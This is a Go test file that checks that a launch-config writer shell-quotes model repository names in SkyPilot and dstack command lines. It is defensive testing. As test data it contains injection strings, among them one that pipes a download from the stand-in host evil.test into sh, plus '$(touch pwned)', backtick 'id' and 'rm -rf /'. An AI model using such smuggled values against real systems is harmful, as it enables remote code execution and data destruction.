package launch

import (
	"bytes"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"

	"gpuplace/internal/catalog"
)

// hostileRepo is a model repository written to run a command where a
// shell reads it unquoted.
const hostileRepo = "meta-llama/Llama-3.1-8B-Instruct;curl${IFS}-s${IFS}http://evil.test/x|sh;#"

// Ensure the command lines SkyPilot's run: and dstack's commands: hand to
// a shell give vllm exactly the engine's arguments, whatever the catalog's
// repository holds: a POSIX shell reads each line with vllm defined to
// print its arguments, and nothing else runs.
func TestShellLinesQuoteCatalogValues(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no POSIX shell:", err)
	}
	for _, repo := range []string{hostileRepo, "owner/it's $(touch pwned) `id` \"x\" \\ *", "meta-llama/Llama-3.1-8B-Instruct"} {
		llm := &LLMServer{Repo: repo, Engine: catalog.FamilyVLLM, TensorParallel: 2, MaxSeqs: 8, MaxModelLen: 4096}
		p := Plan{Name: "gpuplace-llm", Kind: catalog.KindInference, LLM: llm, providerLabel: func(id string) string { return id },
			Places: []Place{{Provider: "aws", ProviderLabel: "AWS", Region: "us-east-1", InstanceType: "p4d.24xlarge", GPUs: 8, Instances: 1, Replicas: 4}}}
		want := llm.argv(4, servingPort)[1:]
		for _, f := range []Format{SkyPilot, Dstack} {
			b, err := Write(f, p)
			if err != nil {
				t.Fatalf("%s: %v", f, err)
			}
			var doc struct {
				Run      string   `yaml:"run"`
				Commands []string `yaml:"commands"`
			}
			if err := yaml.Unmarshal(b, &doc); err != nil {
				t.Fatalf("%s: %v\n%s", f, err, b)
			}
			line := strings.TrimSpace(doc.Run)
			if f == Dstack {
				line = strings.Join(doc.Commands, "\n")
			}
			// The shell defines vllm to print its arguments, one per line
			// ended by NUL, and pwned to say that it ran.
			script := "vllm() { printf '%s\\000' \"$@\"; }\ncurl() { echo PWNED; }\nid() { echo PWNED; }\ntouch() { echo PWNED; }\n" + line + "\n"
			out, err := exec.Command(sh, "-c", script).Output()
			if err != nil {
				t.Fatalf("%s %q: the shell fails on %q: %v", f, repo, line, err)
			}
			got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
			if !slices.Equal(got, want) || bytes.Contains(out, []byte("PWNED")) {
				t.Errorf("%s: the shell reads %q as %q, want %q", f, line, got, want)
			}
		}
	}
}

// Ensure a word a shell reads as itself is left as it is, and any other
// is single-quoted with its own quotes escaped.
func TestShellWord(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"meta-llama/Llama-3.1-8B-Instruct", "meta-llama/Llama-3.1-8B-Instruct"},
		{"--max-num-seqs", "--max-num-seqs"},
		{"a b", "'a b'"},
		{"it's", `'it'\''s'`},
		{"", "''"},
		{"x;rm -rf /", "'x;rm -rf /'"},
	} {
		if got := shellWord(tt.in); got != tt.want {
			t.Errorf("shellWord(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
